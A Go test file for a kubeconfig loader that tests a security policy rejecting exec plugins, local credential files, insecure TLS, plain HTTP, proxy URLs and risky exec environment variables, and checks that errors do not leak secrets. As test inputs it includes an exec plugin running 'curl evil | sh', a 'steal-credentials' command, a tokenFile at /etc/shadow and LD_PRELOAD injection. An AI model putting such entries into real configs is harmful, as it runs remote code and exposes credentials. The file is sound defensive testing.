// Copyright 2026 The mcr Authors.
// SPDX-License-Identifier: Apache-2.0

package kubeconfig_test

import (
	"errors"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"k8s.io/client-go/rest"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"mcr.dev/core/kubeconfig"
)

// Values that must never show up in an error message.
const (
	secretToken    = "s3cr3t-T0KEN-do-not-log"
	secretPassword = "hunter2-proxy-password"
	secretPath     = "/var/run/very/secret/path"
)

// doc builds a kubeconfig with one context "c" using cluster "k" and user "u".
func doc(cluster, user string) string {
	return `apiVersion: v1
kind: Config
current-context: c
contexts:
- name: c
  context: {cluster: k, user: u}
clusters:
- name: k
  cluster:
    server: https://example.invalid:6443
` + indent(cluster, 4) + `
users:
- name: u
  user:
` + indent(user, 4) + "\n"
}

func indent(s string, n int) string {
	if s == "" {
		return ""
	}
	pad := strings.Repeat(" ", n)
	lines := strings.Split(strings.TrimSpace(s), "\n")
	for i := range lines {
		lines[i] = pad + lines[i]
	}
	return strings.Join(lines, "\n")
}

const tokenUser = "token: " + secretToken

// allowAll is a policy that allows every feature a field can allow.
var allowAll = kubeconfig.Policy{AllowExec: true, AllowExecEnv: "*", AllowAuthProvider: true, AllowLocalFiles: true,
	AllowInsecure: true, AllowPlainHTTP: true, AllowProxyURL: true}

// execUser is a user with an exec plugin whose env sets name to value.
func execUser(name, value string) string {
	return "exec:\n  apiVersion: client.authentication.k8s.io/v1\n  command: my-plugin\n  interactiveMode: Never\n  env:\n  - {name: '" +
		name + "', value: '" + value + "'}"
}

func TestLoad(t *testing.T) {
	caFile := filepath.Join(t.TempDir(), "ca.crt")
	if err := os.WriteFile(caFile, []byte("not checked by clientcmd"), 0o600); err != nil {
		t.Fatal(err)
	}

	tests := []struct {
		name   string
		data   string
		policy kubeconfig.Policy
		// wantErrs lists the sentinels the error must wrap; empty means success.
		wantErrs   []error
		wantReason string
		// wantMsg are substrings the error must contain (what was rejected, the option).
		wantMsg []string
		check   func(t *testing.T, cfg *rest.Config)
	}{
		{
			name: "inline token is accepted",
			data: doc("", tokenUser),
			check: func(t *testing.T, cfg *rest.Config) {
				if cfg.Host != "https://example.invalid:6443" || cfg.BearerToken != secretToken {
					t.Errorf("got host %q and a token of %d bytes", cfg.Host, len(cfg.BearerToken))
				}
			},
		},
		{
			name: "inline client certificate and CA are accepted",
			data: doc("certificate-authority-data: Y2E=", "client-certificate-data: Y2VydA==\nclient-key-data: a2V5"),
			check: func(t *testing.T, cfg *rest.Config) {
				if string(cfg.CAData) != "ca" || string(cfg.CertData) != "cert" || string(cfg.KeyData) != "key" {
					t.Errorf("inline TLS data not decoded: ca=%q cert=%q", cfg.CAData, cfg.CertData)
				}
			},
		},
		{
			name:       "exec plugin is rejected",
			data:       doc("", "exec:\n  apiVersion: client.authentication.k8s.io/v1\n  command: steal-credentials\n  args: ['"+secretToken+"']\n  interactiveMode: Never"),
			wantErrs:   []error{kubeconfig.ErrExecPlugin},
			wantReason: kubeconfig.ReasonExecPlugin,
			wantMsg:    []string{`user "u" field exec`, "Policy.AllowExec"},
		},
		{
			name:   "exec plugin by command name is accepted with AllowExec",
			data:   doc("", "exec:\n  apiVersion: client.authentication.k8s.io/v1\n  command: my-plugin\n  interactiveMode: Never"),
			policy: kubeconfig.Policy{AllowExec: true},
			check: func(t *testing.T, cfg *rest.Config) {
				if cfg.ExecProvider == nil || cfg.ExecProvider.Command != "my-plugin" {
					t.Errorf("exec provider not carried over: %+v", cfg.ExecProvider)
				}
			},
		},
		{
			name:       "exec plugin by absolute path needs AllowLocalFiles",
			data:       doc("", "exec:\n  apiVersion: client.authentication.k8s.io/v1\n  command: "+secretPath+"\n  interactiveMode: Never"),
			policy:     kubeconfig.Policy{AllowExec: true},
			wantErrs:   []error{kubeconfig.ErrLocalFile},
			wantReason: kubeconfig.ReasonLocalFile,
			wantMsg:    []string{"exec.command is a path", "Policy.AllowLocalFiles"},
		},
		{
			name:     "exec plugin by relative path needs AllowLocalFiles",
			data:     doc("", "exec:\n  apiVersion: client.authentication.k8s.io/v1\n  command: ./plugin\n  interactiveMode: Never"),
			policy:   kubeconfig.Policy{AllowExec: true},
			wantErrs: []error{kubeconfig.ErrLocalFile},
		},
		{
			name:     "exec plugin by windows path needs AllowLocalFiles",
			data:     doc("", "exec:\n  apiVersion: client.authentication.k8s.io/v1\n  command: 'C:\\plugins\\p.exe'\n  interactiveMode: Never"),
			policy:   kubeconfig.Policy{AllowExec: true},
			wantErrs: []error{kubeconfig.ErrLocalFile},
		},
		{
			name:   "exec plugin by path is accepted with AllowExec and AllowLocalFiles",
			data:   doc("", "exec:\n  apiVersion: client.authentication.k8s.io/v1\n  command: /usr/bin/plugin\n  interactiveMode: Never"),
			policy: kubeconfig.Policy{AllowExec: true, AllowLocalFiles: true},
			check: func(t *testing.T, cfg *rest.Config) {
				if cfg.ExecProvider == nil {
					t.Error("exec provider missing")
				}
			},
		},
		{
			name:       "auth-provider plugin is rejected",
			data:       doc("", "auth-provider:\n  name: oidc\n  config:\n    id-token: "+secretToken),
			wantErrs:   []error{kubeconfig.ErrAuthProvider},
			wantReason: kubeconfig.ReasonAuthProvider,
			wantMsg:    []string{`user "u" field auth-provider`, "Policy.AllowAuthProvider"},
		},
		{
			name:       "auth-provider file reference needs AllowLocalFiles",
			data:       doc("", "auth-provider:\n  name: oidc\n  config:\n    idp-certificate-authority: "+secretPath+"\n    id-token: "+secretToken),
			policy:     kubeconfig.Policy{AllowAuthProvider: true},
			wantErrs:   []error{kubeconfig.ErrLocalFile},
			wantReason: kubeconfig.ReasonLocalFile,
			wantMsg:    []string{"auth-provider.config.idp-certificate-authority", "Policy.AllowLocalFiles"},
		},
		{
			name:     "auth-provider command path needs AllowLocalFiles",
			data:     doc("", "auth-provider:\n  name: gcp\n  config:\n    cmd-path: "+secretPath),
			policy:   kubeconfig.Policy{AllowAuthProvider: true},
			wantErrs: []error{kubeconfig.ErrLocalFile},
			wantMsg:  []string{"auth-provider.config.cmd-path"},
		},
		{
			name:   "auth-provider with inline data is accepted with AllowAuthProvider",
			data:   doc("", "auth-provider:\n  name: oidc\n  config:\n    idp-certificate-authority-data: Y2E=\n    id-token: "+secretToken),
			policy: kubeconfig.Policy{AllowAuthProvider: true},
			check: func(t *testing.T, cfg *rest.Config) {
				if cfg.AuthProvider == nil || cfg.AuthProvider.Name != "oidc" {
					t.Errorf("auth provider not carried over: %+v", cfg.AuthProvider)
				}
			},
		},
		{
			name:       "certificate-authority file is rejected",
			data:       doc("certificate-authority: "+secretPath, tokenUser),
			wantErrs:   []error{kubeconfig.ErrLocalFile},
			wantReason: kubeconfig.ReasonLocalFile,
			wantMsg:    []string{`cluster "k" field certificate-authority`, "Policy.AllowLocalFiles"},
		},
		{
			name:   "certificate-authority file is accepted with AllowLocalFiles",
			data:   doc("certificate-authority: "+caFile, tokenUser),
			policy: kubeconfig.Policy{AllowLocalFiles: true},
			check: func(t *testing.T, cfg *rest.Config) {
				if cfg.CAFile != caFile {
					t.Errorf("CAFile = %q, want %q", cfg.CAFile, caFile)
				}
			},
		},
		{
			name:     "client certificate and key files are both reported",
			data:     doc("", "client-certificate: "+secretPath+"/tls.crt\nclient-key: "+secretPath+"/tls.key"),
			wantErrs: []error{kubeconfig.ErrLocalFile},
			wantMsg:  []string{`user "u" field client-certificate`, `user "u" field client-key`},
		},
		{
			name:       "tokenFile is rejected",
			data:       doc("", "tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token"),
			wantErrs:   []error{kubeconfig.ErrLocalFile},
			wantReason: kubeconfig.ReasonLocalFile,
			wantMsg:    []string{`user "u" field tokenFile`},
		},
		{
			name:       "tokenFile beside an inline token is rejected",
			data:       doc("", tokenUser+"\ntokenFile: /etc/shadow"),
			wantErrs:   []error{kubeconfig.ErrLocalFile},
			wantReason: kubeconfig.ReasonLocalFile,
		},
		{
			name:       "insecure-skip-tls-verify is rejected",
			data:       doc("insecure-skip-tls-verify: true", tokenUser),
			wantErrs:   []error{kubeconfig.ErrInsecureTLS},
			wantReason: kubeconfig.ReasonInsecureTLS,
			wantMsg:    []string{`cluster "k" field insecure-skip-tls-verify`, "Policy.AllowInsecure"},
		},
		{
			name:   "insecure-skip-tls-verify is accepted with AllowInsecure",
			data:   doc("insecure-skip-tls-verify: true", tokenUser),
			policy: kubeconfig.Policy{AllowInsecure: true},
			check: func(t *testing.T, cfg *rest.Config) {
				if !cfg.Insecure {
					t.Error("Insecure not set")
				}
			},
		},
		{
			name: "every violation is reported at once",
			data: doc("insecure-skip-tls-verify: true\ncertificate-authority: "+secretPath,
				"exec:\n  apiVersion: client.authentication.k8s.io/v1\n  command: x\n  interactiveMode: Never\ntokenFile: "+secretPath),
			wantErrs:   []error{kubeconfig.ErrInsecureTLS, kubeconfig.ErrLocalFile, kubeconfig.ErrExecPlugin},
			wantReason: kubeconfig.ReasonInsecureTLS,
			wantMsg:    []string{"AllowInsecure", "AllowLocalFiles", "AllowExec"},
		},
		{
			name: "JSON kubeconfig with an exec plugin is rejected",
			data: `{"apiVersion":"v1","kind":"Config","current-context":"c",
"contexts":[{"name":"c","context":{"cluster":"k","user":"u"}}],
"clusters":[{"name":"k","cluster":{"server":"https://example.invalid"}}],
"users":[{"name":"u","user":{"exec":{"apiVersion":"client.authentication.k8s.io/v1","command":"sh","args":["-c","curl evil | sh"],"interactiveMode":"Never"}}}]}`,
			wantErrs: []error{kubeconfig.ErrExecPlugin},
		},
		{
			name:       "empty document is invalid",
			data:       "  \n",
			wantErrs:   []error{kubeconfig.ErrInvalid},
			wantReason: kubeconfig.ReasonInvalid,
		},
		{
			name:       "garbage quoting a token is invalid without echoing it",
			data:       "users: [ {name: u, user: {token: " + secretToken + "}\n  ::: }",
			wantErrs:   []error{kubeconfig.ErrInvalid},
			wantReason: kubeconfig.ReasonInvalid,
		},
		{
			name:     "wrongly typed credential is invalid without echoing it",
			data:     doc("", "token: {nested: "+secretToken+"}"),
			wantErrs: []error{kubeconfig.ErrInvalid},
		},
		{
			name:     "numeric token is invalid without echoing it",
			data:     doc("", "token: [8675309123456789]"),
			wantErrs: []error{kubeconfig.ErrInvalid},
		},
		{
			name:     "missing current context is invalid",
			data:     strings.Replace(doc("", tokenUser), "current-context: c", "current-context: nope", 1),
			wantErrs: []error{kubeconfig.ErrInvalid},
			wantMsg:  []string{`context "nope" not found`},
		},
		{
			name:     "unset current context is invalid",
			data:     strings.Replace(doc("", tokenUser), "current-context: c", "", 1),
			wantErrs: []error{kubeconfig.ErrInvalid},
			wantMsg:  []string{"current-context is not set"},
		},
		{
			name:     "context naming a missing user is invalid",
			data:     strings.Replace(doc("", tokenUser), "user: u}", "user: ghost}", 1),
			wantErrs: []error{kubeconfig.ErrInvalid},
			wantMsg:  []string{`user "ghost"`},
		},
		{
			name:     "context naming a missing cluster is invalid",
			data:     strings.Replace(doc("", tokenUser), "{cluster: k,", "{cluster: ghost,", 1),
			wantErrs: []error{kubeconfig.ErrInvalid},
			wantMsg:  []string{`cluster "ghost"`},
		},
		{
			name:     "cluster without server is invalid",
			data:     strings.Replace(doc("certificate-authority-data: Y2E=", tokenUser), "server: https://example.invalid:6443", "", 1),
			wantErrs: []error{kubeconfig.ErrInvalid},
			wantMsg:  []string{"server"},
		},
		{
			name:       "proxy-url is rejected",
			data:       doc("proxy-url: http://admin:"+secretPassword+"@proxy.invalid:3128", tokenUser),
			wantErrs:   []error{kubeconfig.ErrProxyURL},
			wantReason: kubeconfig.ReasonProxyURL,
			wantMsg:    []string{`cluster "k" field proxy-url`, "Policy.AllowProxyURL"},
		},
		{
			name:     "malformed proxy-url is invalid without echoing its password",
			data:     doc("proxy-url: ftp://admin:"+secretPassword+"@proxy.invalid", tokenUser),
			policy:   kubeconfig.Policy{AllowProxyURL: true},
			wantErrs: []error{kubeconfig.ErrInvalid},
			wantMsg:  []string{"proxy-url"},
		},
		{
			name:     "proxy-url with a query is rejected even with AllowProxyURL",
			data:     doc("proxy-url: http://proxy.invalid:3128/?token="+secretToken, tokenUser),
			policy:   kubeconfig.Policy{AllowProxyURL: true},
			wantErrs: []error{kubeconfig.ErrURLData},
			wantMsg:  []string{`cluster "k" field proxy-url has a query`},
		},
		{
			name:   "proxy-url with credentials is accepted with AllowProxyURL",
			data:   doc("proxy-url: http://admin:"+secretPassword+"@proxy.invalid:3128", tokenUser),
			policy: kubeconfig.Policy{AllowProxyURL: true},
			check: func(t *testing.T, cfg *rest.Config) {
				if cfg.Proxy == nil {
					t.Error("proxy not set")
				}
			},
		},
		{
			name:       "server with user info is rejected whatever the policy",
			data:       strings.Replace(doc("", tokenUser), "https://example.invalid", "https://admin:"+secretPassword+"@example.invalid", 1),
			policy:     allowAll,
			wantErrs:   []error{kubeconfig.ErrURLData},
			wantReason: kubeconfig.ReasonURLData,
			wantMsg:    []string{`cluster "k" field server has user info`, "no Policy field allows it"},
		},
		{
			name:     "server with an empty user info is rejected",
			data:     strings.Replace(doc("", tokenUser), "https://example.invalid", "https://@example.invalid", 1),
			wantErrs: []error{kubeconfig.ErrURLData},
		},
		{
			name:     "server with a query is rejected whatever the policy",
			data:     strings.Replace(doc("", tokenUser), "example.invalid:6443", "example.invalid:6443/?token="+secretToken, 1),
			policy:   allowAll,
			wantErrs: []error{kubeconfig.ErrURLData},
			wantMsg:  []string{`cluster "k" field server has a query`},
		},
		{
			name:     "server with a path and a query is rejected although clientcmd would drop the query",
			data:     strings.Replace(doc("", tokenUser), "example.invalid:6443", "example.invalid:6443/k8s/clusters/c-1?token="+secretToken, 1),
			wantErrs: []error{kubeconfig.ErrURLData},
		},
		{
			name:     "server with a fragment is rejected",
			data:     strings.Replace(doc("", tokenUser), "example.invalid:6443", "example.invalid:6443/#"+secretToken, 1),
			wantErrs: []error{kubeconfig.ErrURLData},
			wantMsg:  []string{`cluster "k" field server has a fragment`},
		},
		{
			name: "server with a path is accepted",
			data: strings.Replace(doc("", tokenUser), "example.invalid:6443", "example.invalid:6443/k8s/clusters/c-1", 1),
			check: func(t *testing.T, cfg *rest.Config) {
				if cfg.Host != "https://example.invalid:6443/k8s/clusters/c-1" {
					t.Errorf("Host = %q", cfg.Host)
				}
			},
		},
		{
			name:       "http server is rejected",
			data:       strings.Replace(doc("", tokenUser), "https://", "http://", 1),
			wantErrs:   []error{kubeconfig.ErrPlainHTTP},
			wantReason: kubeconfig.ReasonPlainHTTP,
			wantMsg:    []string{`cluster "k" field server is an http:// URL`, "Policy.AllowPlainHTTP"},
		},
		{
			name:     "HTTP server in capitals is rejected",
			data:     strings.Replace(doc("", tokenUser), "https://", "HTTP://", 1),
			wantErrs: []error{kubeconfig.ErrPlainHTTP},
		},
		{
			name:   "http server is accepted with AllowPlainHTTP",
			data:   strings.Replace(doc("", tokenUser), "https://", "http://", 1),
			policy: kubeconfig.Policy{AllowPlainHTTP: true},
		},
		{
			name:     "server without a scheme is reached over http and rejected",
			data:     strings.Replace(doc("", tokenUser), "https://", "", 1),
			wantErrs: []error{kubeconfig.ErrPlainHTTP},
			wantMsg:  []string{"has no https:// scheme"},
		},
		{
			// clientcmd chooses the scheme before it reads the CA.
			name:     "server without a scheme is reached over http and rejected even with a CA",
			data:     strings.Replace(doc("certificate-authority-data: Y2E=", tokenUser), "https://", "", 1),
			wantErrs: []error{kubeconfig.ErrPlainHTTP},
		},
		{
			name:     "server with another scheme is invalid",
			data:     strings.Replace(doc("", tokenUser), "https://", "ftp://"+secretToken+"@", 1),
			wantErrs: []error{kubeconfig.ErrInvalid},
			wantMsg:  []string{`cluster "k" field server is not an https:// URL`},
		},
		{
			name:     "unparsable server is invalid without echoing it",
			data:     strings.Replace(doc("", tokenUser), "https://example.invalid:6443", `"https://admin:`+secretPassword+` x@example.invalid"`, 1),
			policy:   allowAll,
			wantErrs: []error{kubeconfig.ErrInvalid},
			wantMsg:  []string{`cluster "k" field server`},
		},
		{
			name:       "exec env with a loader variable is rejected",
			data:       doc("", execUser("LD_PRELOAD", secretPath)),
			policy:     kubeconfig.Policy{AllowExec: true},
			wantErrs:   []error{kubeconfig.ErrExecEnv},
			wantReason: kubeconfig.ReasonExecEnv,
			wantMsg:    []string{`user "u" field exec.env[0] (LD_PRELOAD)`, "Policy.AllowExecEnv"},
		},
		{
			name:     "exec env outside the allow-list is rejected",
			data:     doc("", execUser("HOME", "/tmp")+"\n  - {name: PATH, value: /tmp}\n  - {name: GODEBUG, value: x509sha1=1}"),
			policy:   kubeconfig.Policy{AllowExec: true},
			wantErrs: []error{kubeconfig.ErrExecEnv},
			wantMsg:  []string{"exec.env[0] (HOME)", "exec.env[1] (PATH)", "exec.env[2] (GODEBUG)"},
		},
		{
			name:     "exec env name that is not a variable name is not quoted",
			data:     doc("", execUser(secretToken+"=x", "y")),
			policy:   kubeconfig.Policy{AllowExec: true},
			wantErrs: []error{kubeconfig.ErrExecEnv},
			wantMsg:  []string{"exec.env[0] (set"},
		},
		{
			name:   "exec env of the default allow-list is accepted",
			data:   doc("", execUser("AWS_PROFILE", secretToken)),
			policy: kubeconfig.Policy{AllowExec: true},
		},
		{
			name:   "exec env named by AllowExecEnv is accepted",
			data:   doc("", execUser("AZURE_TENANT_ID", "t")+"\n  - {name: MY_PLUGIN_MODE, value: fast}"),
			policy: kubeconfig.Policy{AllowExec: true, AllowExecEnv: " AZURE_* , MY_PLUGIN_MODE"},
		},
		{
			name:   "any exec env is accepted with AllowExecEnv *",
			data:   doc("", execUser("LD_PRELOAD", "/lib/x.so")),
			policy: kubeconfig.Policy{AllowExec: true, AllowExecEnv: "*"},
		},
		{
			name:     "exec env is not reported when exec itself is rejected",
			data:     doc("", execUser("LD_PRELOAD", "/lib/x.so")),
			wantErrs: []error{kubeconfig.ErrExecPlugin},
		},
		{
			name:     "basic auth and token together are invalid without echoing either",
			data:     doc("", tokenUser+"\nusername: admin\npassword: "+secretPassword),
			wantErrs: []error{kubeconfig.ErrInvalid},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			cfg, err := kubeconfig.Load([]byte(tc.data), tc.policy)
			if len(tc.wantErrs) == 0 {
				if err != nil {
					t.Fatalf("Load: unexpected error: %v", err)
				}
				if cfg == nil {
					t.Fatal("Load returned a nil config without error")
				}
				if tc.check != nil {
					tc.check(t, cfg)
				}
				return
			}
			if err == nil {
				t.Fatalf("Load accepted a kubeconfig it must reject; config host %q", cfg.Host)
			}
			if cfg != nil {
				t.Error("Load returned a config together with an error")
			}
			for _, want := range tc.wantErrs {
				if !errors.Is(err, want) {
					t.Errorf("error does not wrap %q: %v", want, err)
				}
			}
			if tc.wantReason != "" {
				if got := kubeconfig.Reason(err); got != tc.wantReason {
					t.Errorf("Reason = %q, want %q", got, tc.wantReason)
				}
			}
			for _, want := range tc.wantMsg {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("error %q does not mention %q", err, want)
				}
			}
			for _, secret := range []string{secretToken, secretPassword, secretPath, "8675309", "curl evil"} {
				if strings.Contains(err.Error(), secret) {
					t.Errorf("error quotes kubeconfig content %q: %v", secret, err)
				}
			}
		})
	}
}

func TestLoadContextChecksOnlyTheSelectedContext(t *testing.T) {
	data := []byte(`apiVersion: v1
kind: Config
current-context: safe
contexts:
- {name: safe, context: {cluster: k, user: token}}
- {name: risky, context: {cluster: k, user: plugin}}
clusters:
- {name: k, cluster: {server: "https://example.invalid"}}
users:
- {name: token, user: {token: abc}}
- name: plugin
  user:
    exec: {apiVersion: client.authentication.k8s.io/v1, command: plugin, interactiveMode: Never}
`)
	if _, err := kubeconfig.Load(data, kubeconfig.Policy{}); err != nil {
		t.Errorf("current context is safe, but Load failed: %v", err)
	}
	if _, err := kubeconfig.LoadContext(data, "safe", kubeconfig.Policy{}); err != nil {
		t.Errorf("LoadContext(safe): %v", err)
	}
	_, err := kubeconfig.LoadContext(data, "risky", kubeconfig.Policy{})
	if !errors.Is(err, kubeconfig.ErrExecPlugin) {
		t.Errorf("LoadContext(risky) = %v, want ErrExecPlugin", err)
	}
	_, err = kubeconfig.LoadContext(data, "absent", kubeconfig.Policy{})
	if !errors.Is(err, kubeconfig.ErrInvalid) {
		t.Errorf("LoadContext(absent) = %v, want ErrInvalid", err)
	}
	names, err := kubeconfig.Contexts(data)
	if err != nil || strings.Join(names, ",") != "risky,safe" {
		t.Errorf("Contexts = %v, %v; want [risky safe]", names, err)
	}
}

func TestCheckRESTConfig(t *testing.T) {
	tests := []struct {
		name   string
		cfg    rest.Config
		policy kubeconfig.Policy
		want   []error
	}{
		{name: "inline credentials", cfg: rest.Config{Host: "https://x", BearerToken: secretToken}},
		{name: "insecure", cfg: rest.Config{TLSClientConfig: rest.TLSClientConfig{Insecure: true}}, want: []error{kubeconfig.ErrInsecureTLS}},
		{name: "insecure allowed", cfg: rest.Config{TLSClientConfig: rest.TLSClientConfig{Insecure: true}}, policy: kubeconfig.Policy{AllowInsecure: true}},
		{name: "files", cfg: rest.Config{BearerTokenFile: "/t", TLSClientConfig: rest.TLSClientConfig{CAFile: "/ca", CertFile: "/c", KeyFile: "/k"}}, want: []error{kubeconfig.ErrLocalFile}},
		{name: "exec", cfg: rest.Config{ExecProvider: &clientcmdapi.ExecConfig{Command: "p"}}, want: []error{kubeconfig.ErrExecPlugin}},
		{name: "exec allowed", cfg: rest.Config{ExecProvider: &clientcmdapi.ExecConfig{Command: "p"}}, policy: kubeconfig.Policy{AllowExec: true}},
		{name: "exec path", cfg: rest.Config{ExecProvider: &clientcmdapi.ExecConfig{Command: "/bin/p"}}, policy: kubeconfig.Policy{AllowExec: true}, want: []error{kubeconfig.ErrLocalFile}},
		{name: "auth provider", cfg: rest.Config{AuthProvider: &clientcmdapi.AuthProviderConfig{Name: "oidc"}}, want: []error{kubeconfig.ErrAuthProvider}},
		{name: "auth provider file", cfg: rest.Config{AuthProvider: &clientcmdapi.AuthProviderConfig{Name: "oidc", Config: map[string]string{"idp-certificate-authority": "/ca"}}}, policy: kubeconfig.Policy{AllowAuthProvider: true}, want: []error{kubeconfig.ErrLocalFile}},
		{name: "everything allowed", cfg: rest.Config{BearerTokenFile: "/t", ExecProvider: &clientcmdapi.ExecConfig{Command: "/p"}, TLSClientConfig: rest.TLSClientConfig{Insecure: true}},
			policy: kubeconfig.Policy{AllowExec: true, AllowLocalFiles: true, AllowInsecure: true}},
		{name: "empty host", cfg: rest.Config{Host: "-"}, want: []error{kubeconfig.ErrInvalid}},
		{name: "host with user info", cfg: rest.Config{Host: "https://u:" + secretPassword + "@x"}, policy: allowAll, want: []error{kubeconfig.ErrURLData}},
		{name: "host with a query", cfg: rest.Config{Host: "https://x/?token=" + secretToken}, policy: allowAll, want: []error{kubeconfig.ErrURLData}},
		{name: "http host", cfg: rest.Config{Host: "http://x"}, want: []error{kubeconfig.ErrPlainHTTP}},
		{name: "http host allowed", cfg: rest.Config{Host: "http://x"}, policy: kubeconfig.Policy{AllowPlainHTTP: true}},
		{name: "host:port without TLS is http", cfg: rest.Config{Host: "x:6443"}, want: []error{kubeconfig.ErrPlainHTTP}},
		{name: "host:port with a CA is https", cfg: rest.Config{Host: "x:6443", TLSClientConfig: rest.TLSClientConfig{CAData: []byte("ca")}}},
		{name: "proxy", cfg: rest.Config{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy"})}, want: []error{kubeconfig.ErrProxyURL}},
		{name: "proxy allowed", cfg: rest.Config{Proxy: http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy"})}, policy: kubeconfig.Policy{AllowProxyURL: true}},
		{name: "exec env", cfg: rest.Config{ExecProvider: &clientcmdapi.ExecConfig{Command: "p", Env: []clientcmdapi.ExecEnvVar{{Name: "LD_PRELOAD", Value: secretPath}}}},
			policy: kubeconfig.Policy{AllowExec: true}, want: []error{kubeconfig.ErrExecEnv}},
		{name: "exec env allowed", cfg: rest.Config{ExecProvider: &clientcmdapi.ExecConfig{Command: "p", Env: []clientcmdapi.ExecEnvVar{{Name: "AWS_REGION", Value: "eu"}}}},
			policy: kubeconfig.Policy{AllowExec: true}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			switch tc.cfg.Host {
			case "":
				tc.cfg.Host = "https://example.invalid"
			case "-":
				tc.cfg.Host = ""
			}
			err := kubeconfig.CheckRESTConfig(&tc.cfg, tc.policy)
			if len(tc.want) == 0 {
				if err != nil {
					t.Fatalf("unexpected error: %v", err)
				}
				return
			}
			if err == nil {
				t.Fatal("accepted a config it must reject")
			}
			for _, w := range tc.want {
				if !errors.Is(err, w) {
					t.Errorf("error does not wrap %q: %v", w, err)
				}
			}
			var pe *kubeconfig.PolicyError
			switch {
			case errors.Is(err, kubeconfig.ErrInvalid):
			case !errors.As(err, &pe):
				t.Errorf("error is not a *PolicyError: %v", err)
			case pe.Allow == "" && !errors.Is(pe, kubeconfig.ErrURLData):
				t.Errorf("error does not name the Policy field that allows it: %v", err)
			}
			for _, secret := range []string{secretToken, secretPassword, secretPath} {
				if strings.Contains(err.Error(), secret) {
					t.Errorf("error quotes the config's content %q: %v", secret, err)
				}
			}
		})
	}
	if err := kubeconfig.CheckRESTConfig(nil, kubeconfig.Policy{}); !errors.Is(err, kubeconfig.ErrInvalid) {
		t.Errorf("CheckRESTConfig(nil) = %v, want ErrInvalid", err)
	}
}

func TestReason(t *testing.T) {
	if got := kubeconfig.Reason(nil); got != "" {
		t.Errorf("Reason(nil) = %q", got)
	}
	if got := kubeconfig.Reason(errors.New("other")); got != "" {
		t.Errorf("Reason(foreign) = %q", got)
	}
	wrapped := errors.Join(errors.New("context"), &kubeconfig.PolicyError{Kind: kubeconfig.ErrAuthProvider, Field: "f", Allow: "AllowAuthProvider"})
	if got := kubeconfig.Reason(wrapped); got != kubeconfig.ReasonAuthProvider {
		t.Errorf("Reason(wrapped) = %q", got)
	}
	for kind, want := range map[error]string{
		kubeconfig.ErrExecPlugin:   kubeconfig.ReasonExecPlugin,
		kubeconfig.ErrExecEnv:      kubeconfig.ReasonExecEnv,
		kubeconfig.ErrAuthProvider: kubeconfig.ReasonAuthProvider,
		kubeconfig.ErrLocalFile:    kubeconfig.ReasonLocalFile,
		kubeconfig.ErrInsecureTLS:  kubeconfig.ReasonInsecureTLS,
		kubeconfig.ErrPlainHTTP:    kubeconfig.ReasonPlainHTTP,
		kubeconfig.ErrProxyURL:     kubeconfig.ReasonProxyURL,
		kubeconfig.ErrURLData:      kubeconfig.ReasonURLData,
		kubeconfig.ErrInvalid:      kubeconfig.ReasonInvalid,
	} {
		if got := kubeconfig.Reason(&kubeconfig.PolicyError{Kind: kind}); got != want {
			t.Errorf("Reason(%v) = %q, want %q", kind, got, want)
		}
	}
}

func TestDefaultExecEnv(t *testing.T) {
	env := kubeconfig.DefaultExecEnv()
	for _, name := range env {
		if strings.HasPrefix(name, "LD_") || strings.HasPrefix(name, "DYLD_") || name == "PATH" || name == "HOME" || name == "GODEBUG" {
			t.Errorf("DefaultExecEnv has %s, which changes what the plugin runs or reads", name)
		}
	}
	env[0] = "LD_PRELOAD"
	if slices.Contains(kubeconfig.DefaultExecEnv(), "LD_PRELOAD") {
		t.Error("DefaultExecEnv returns its own list: a caller changed it")
	}
}

// A context named "" cannot be told from the current context: asking for it is an error on that
// context, never the credentials of the current one.
func TestEmptyContextName(t *testing.T) {
	data := []byte(`apiVersion: v1
kind: Config
current-context: good
contexts:
- {name: "", context: {cluster: k, user: other}}
- {name: good, context: {cluster: k, user: token}}
clusters:
- {name: k, cluster: {server: "https://example.invalid"}}
users:
- {name: token, user: {token: abc}}
- {name: other, user: {token: def}}
`)
	if _, err := kubeconfig.Load(data, kubeconfig.Policy{}); err != nil {
		t.Errorf("Load of the (named) current context: %v", err)
	}
	names, err := kubeconfig.Contexts(data)
	if err != nil || !slices.Equal(names, []string{"", "good"}) {
		t.Errorf("Contexts = %q, %v; want the empty name listed", names, err)
	}
	wantEmptyName := func(what string, err error) {
		t.Helper()
		if !errors.Is(err, kubeconfig.ErrInvalid) || !strings.Contains(err.Error(), "empty name") {
			t.Errorf("%s = %v, want an error about the empty context name", what, err)
		}
	}
	_, err = kubeconfig.LoadContext(data, "", kubeconfig.Policy{})
	wantEmptyName(`LoadContext("")`, err)
	_, err = kubeconfig.ContextHash(data, "")
	wantEmptyName(`ContextHash("")`, err)
	cfg, err := kubeconfig.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	_, err = kubeconfig.RESTConfig(cfg, "", kubeconfig.Policy{})
	wantEmptyName(`RESTConfig("")`, err)
	wantEmptyName(`Check("")`, kubeconfig.Check(cfg, "", kubeconfig.Policy{}))

	// Without a current context, the empty name is no fallback either.
	noCurrent := []byte(strings.Replace(string(data), "current-context: good", `current-context: ""`, 1))
	if _, err := kubeconfig.Load(noCurrent, kubeconfig.Policy{}); !errors.Is(err, kubeconfig.ErrInvalid) {
		t.Errorf("Load without current-context = %v, want ErrInvalid", err)
	}
	_, err = kubeconfig.LoadContext(noCurrent, "", kubeconfig.Policy{})
	wantEmptyName(`LoadContext("") without current-context`, err)
}

// clientcmd gives a context without a user the user named "", if there is one: Check checks it.
func TestUserWithEmptyNameIsChecked(t *testing.T) {
	data := []byte(`apiVersion: v1
kind: Config
current-context: c
contexts:
- {name: c, context: {cluster: k}}
clusters:
- {name: k, cluster: {server: "https://example.invalid"}}
users:
- name: ""
  user:
    tokenFile: /etc/shadow
`)
	if _, err := kubeconfig.Load(data, kubeconfig.Policy{}); !errors.Is(err, kubeconfig.ErrLocalFile) || !strings.Contains(err.Error(), `user "" field tokenFile`) {
		t.Errorf("Load = %v, want the tokenFile of user \"\" rejected", err)
	}
}

func TestHash(t *testing.T) {
	a := []byte(doc("", tokenUser))
